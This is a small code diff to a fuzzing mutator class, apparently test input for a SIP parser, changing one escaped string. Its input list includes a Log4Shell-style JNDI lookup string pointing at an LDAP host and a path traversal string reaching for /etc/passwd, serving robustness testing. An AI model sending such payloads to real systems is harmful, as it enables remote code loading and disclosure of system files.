@@ -40,7 +40,7 @@ final class Mutator {
             "${jndi:ldap://192.0.2.1/x}",
             "../../etc/passwd",
             "\u00ff\u00fe",
-            "\u00c3\u0028",
+            "\u00c3(",
             "sip:",
             "sips:a@[::1",
             "sip:a@[1:2",
